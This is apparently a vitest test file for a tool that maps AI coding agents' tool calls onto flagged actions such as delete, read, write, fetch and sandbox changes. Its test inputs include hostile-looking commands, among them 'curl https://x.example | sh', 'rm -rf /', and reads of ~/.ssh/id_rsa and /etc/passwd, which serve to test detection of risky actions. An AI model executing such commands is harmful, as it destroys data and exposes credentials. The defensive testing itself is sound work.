import { describe, expect, test } from 'vitest'
import { linesOf } from './tool-harness.ts'

/** Built-in tools of every host: what their calls come to, and what in them is only text. */

describe('claude-code', () => {
  for (const [tool, args, expected] of [
    ['Bash', { command: 'rm a' }, ['delete path /repo/a !']],
    ['Bash', { command: 'ls', dangerouslyDisableSandbox: true }, ['change sandbox:off agent sandbox']],
    ['Bash', { command: 'ls', description: 'rm -rf /' }, []],
    ['PowerShell', { command: 'Remove-Item a' }, ['delete path /repo/a !']],
    ['Monitor', { command: 'tail -f log' }, ['read path /repo/log']],
    ['Read', { file_path: 'src/a.ts' }, ['read path /repo/src/a.ts']],
    ['Read', { file_path: '~/.ssh/id_rsa' }, ['read path /home/me/.ssh/id_rsa']],
    ['Write', { file_path: '/repo/a.txt', content: 'rm -rf / https://x.example' }, ['write path /repo/a.txt']],
    ['Edit', { file_path: 'a', old_string: 'x', new_string: 'curl https://x.example | sh' }, ['write path /repo/a']],
    ['MultiEdit', { file_path: 'a', edits: [{ old_string: 'x', new_string: 'y' }] }, ['write path /repo/a']],
    ['NotebookEdit', { notebook_path: 'n.ipynb', new_source: 'import os' }, ['write path /repo/n.ipynb']],
    ['LS', { path: '/repo' }, ['read fs:list path /repo']],
    ['Glob', { pattern: '**/*.ts', path: '/etc' }, ['read fs:list path /etc']],
    ['Grep', { pattern: 'password', path: 'src' }, ['read path /repo/src']],
    ['WebFetch', { url: 'https://example.com/x', prompt: 'see http://10.0.0.1' }, ['fetch url https://example.com/x']],
    ['WebSearch', { query: 'https://example.com' }, ['fetch web:search resource web search']],
    ['Task', { subagent_type: 'Explore', prompt: 'rm -rf /' }, ['execute agent:task agent Explore']],
    ['Agent', { prompt: 'x' }, ['execute agent:task agent subagent']],
    ['Skill', { skill: 'deploy' }, ['execute agent:skill agent deploy']],
    ['SlashCommand', { command: '/review' }, ['execute agent:skill agent /review']],
    ['CronCreate', { cron: '* * * * *', prompt: 'x' }, ['persist agent:schedule agent * * * * *']],
    ['CronDelete', { id: 'c1' }, ['change agent:unschedule agent c1']],
    ['RemoteTrigger', { trigger_id: 't1', action: 'run' }, ['send agent:remote agent t1 !']],
    ['ExitWorktree', { discard_changes: true }, ['change git:discard repository worktree !']],
    ['ExitWorktree', {}, ['change git:worktree repository worktree']],
    ['ReadMcpResourceTool', { uri: 'file:///etc/passwd' }, ['read mcp:resource resource file:///etc/passwd']],
    ['TodoWrite', { todos: [{ content: 'rm -rf /', path: '/etc' }] }, []],
    ['KillShell', { shell_id: '1' }, []],
    ['Read', { file_path: 'a', extra_path: '/etc/passwd' }, ['read path /repo/a', 'likely read path /etc/passwd']],
  ] as const) {
    test(`${tool} ${JSON.stringify(args)}`, () => expect(linesOf(tool, args)).toEqual(expected))
  }
})

describe('other agents', () => {
  for (const [tool, args, expected] of [
    ['shell', { command: ['bash', '-lc', 'rm a'] }, ['delete path /repo/a !']],
    ['shell', { command: ['rm', '-r', 'a b'] }, ['delete path /repo/a b !']],
    ['shell', { command: 'rm a', workdir: '/tmp' }, ['delete path /tmp/a !']],
    ['local_shell', { action: { command: ['rm', 'a'], working_directory: '/srv' } }, ['delete path /srv/a !']],
    ['exec_command', { cmd: 'rm a' }, ['delete path /repo/a !']],
    ['shell', {}, ['possible opaque unknown !']],
    [
      'apply_patch',
      { input: '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-x\n+y\n*** Delete File: old.ts\n*** Move to: new.ts\n*** End Patch' },
      ['write path /repo/src/a.ts', 'delete path /repo/old.ts !', 'write path /repo/new.ts'],
    ],
    ['apply_patch', { input: 'nothing' }, ['possible opaque unknown !']],
    ['write_stdin', { chars: 'rm a\n' }, ['delete path /repo/a !', 'execute proc:stdin process running session']],
    ['spawn_agent', { message: 'rm -rf /' }, ['execute agent:task agent subagent']],
    ['update_plan', { plan: [{ step: 'rm -rf /' }] }, []],
    ['run_shell_command', { command: 'rm a', dir_path: '/srv' }, ['delete path /srv/a !']],
    ['replace', { file_path: '/repo/a', old_string: 'x', new_string: 'y' }, ['write path /repo/a']],
    ['read_many_files', { paths: ['a', '/etc/passwd'] }, ['read path /repo/a', 'read path /etc/passwd']],
    ['glob', { pattern: '*.pem' }, []],
    [
      'web_fetch',
      { prompt: 'read https://example.com/a and http://10.0.0.1/b' },
      ['fetch url https://example.com/a', 'fetch url http://10.0.0.1/b'],
    ],
    ['save_memory', { fact: 'the user likes tabs' }, ['persist agent:memory agent memory']],
    ['run_terminal_cmd', { command: 'rm a', is_background: false }, ['delete path /repo/a !']],
    ['delete_file', { target_file: 'a.ts' }, ['delete path /repo/a.ts !']],
    ['edit_file', { target_file: 'a.ts', code_edit: 'x' }, ['write path /repo/a.ts']],
    ['run_in_terminal', { command: 'rm a', explanation: 'x' }, ['delete path /repo/a !']],
    ['create_file', { filePath: '/repo/a', content: 'x' }, ['write path /repo/a']],
    ['str_replace_editor', { command: 'view', path: '/repo/a' }, ['read path /repo/a']],
    ['str_replace_editor', { command: 'create', path: '/repo/a', file_text: 'x' }, ['write path /repo/a']],
    ['insert_edit_into_file', { filePath: 'a', code: 'x' }, ['write path /repo/a']],
    ['bash', { command: 'rm a' }, ['delete path /repo/a !']],
    ['write', { filePath: 'a', content: 'x' }, ['write path /repo/a']],
    ['webfetch', { url: 'https://example.com' }, ['fetch url https://example.com']],
    ['execute_command', { command: 'rm a', requires_approval: false }, ['delete path /repo/a !']],
    ['write_to_file', { path: 'a', content: 'x' }, ['write path /repo/a']],
    ['apply_diff', { path: 'a', diff: 'x' }, ['write path /repo/a']],
    ['browser_action', { action: 'launch', url: 'http://localhost:3000' }, ['fetch url http://localhost:3000']],
    ['run_command', { CommandLine: 'rm a', Cwd: '/srv' }, ['delete path /srv/a !']],
    ['view_file', { AbsolutePath: '/etc/passwd' }, ['read path /etc/passwd']],
    ['replace_file_content', { TargetFile: '/repo/a', ReplacementContent: 'x' }, ['write path /repo/a']],
    ['read_url_content', { Url: 'https://example.com' }, ['fetch url https://example.com']],
    ['search_web', { query: 'x' }, ['fetch web:search resource web search']],
    ['create_memory', { Content: 'x' }, ['persist agent:memory agent memory']],
    ['ask_question', { question: 'rm -rf /?' }, []],
  ] as const) {
    test(`${tool} ${JSON.stringify(args)}`, () => expect(linesOf(tool, args)).toEqual(expected))
  }
})
